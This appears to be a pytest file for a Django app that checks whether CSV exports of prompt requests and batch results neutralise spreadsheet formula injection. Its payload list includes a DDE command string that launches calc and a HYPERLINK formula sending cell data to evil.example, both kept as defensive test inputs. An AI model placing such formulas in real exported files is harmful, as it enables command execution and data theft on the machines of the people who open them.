"""CSV formulas: no cell of any file that leaves for a spreadsheet begins as a formula does."""

from __future__ import annotations

import csv
import io
from typing import Any

import pytest
from django.test import Client
from django.urls import reverse

from documents.tests.batching import make_batch
from documents.tests.factories import make_document
from documents.tests.measuring import finish, says
from prompts.tests.admin.conftest import signed_in
from prompts.tests.admin.stories import answered
from prompts.tests.personas import client_of

FORMULAS = [
    "=1+1",
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("https://evil.example?x="&A1)',
    "+1+cmd|x",
    "-2+3+cmd|x",
    "@SUM(1)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    " =1+1",
    "\u200b=1+1",
    "＝1+1",
    "＋1",
    "＠SUM(1)",
    ";=1+1",
    '"=1+1',
    "%0A=1+1",
]
STARTS = tuple("=+-@＝＋－＠\t\r\n")


def cells(answer: Any) -> list[str]:
    content = b"".join(answer.streaming_content) if answer.streaming else answer.content
    return [cell for row in csv.reader(io.StringIO(content.decode("utf-8-sig"))) for cell in row]


def dangerous(found: list[str]) -> list[str]:
    """Without what is a number, and with invisible beginnings taken off as spreadsheets do."""
    started = [cell for cell in found if cell.lstrip(" \u200b\ufeff").startswith(STARTS)]
    return [cell for cell in started if not cell.lstrip("+-").replace(".", "", 1).isdigit()]


def test_the_requests(root: Any) -> None:
    for formula in FORMULAS:
        answered(formula, root, purpose=formula, prompt_text=formula, metadata={formula: formula})
    found = cells(signed_in(root).post(reverse("admin:prompts_promptrequest_export_csv")))
    assert sum("1+1" in cell for cell in found) > len(FORMULAS)
    assert dangerous(found) == []


@pytest.mark.parametrize("way", ["/api/ai/documents/batches/{}/results.csv", "/admin/documents/batch/{}/results.csv"])
def test_the_results_of_a_batch(root: Any, way: str) -> None:
    documents = [make_document(root, f"Text {number}", formula) for number, formula in enumerate(FORMULAS, start=1)]
    told = [{formula: formula, "total": formula} for formula in FORMULAS]
    batch = finish(make_batch(documents, root, purpose=FORMULAS[0], model="simulator/default"), says(*told))
    client: Client = signed_in(root)
    answer: Any = (
        client_of(root).get(way.format(batch.pk)) if way.startswith("/api") else client.get(way.format(batch.pk))
    )
    found = cells(answer)
    assert sum("1+1" in cell for cell in found) > len(FORMULAS)
    assert dangerous(found) == []
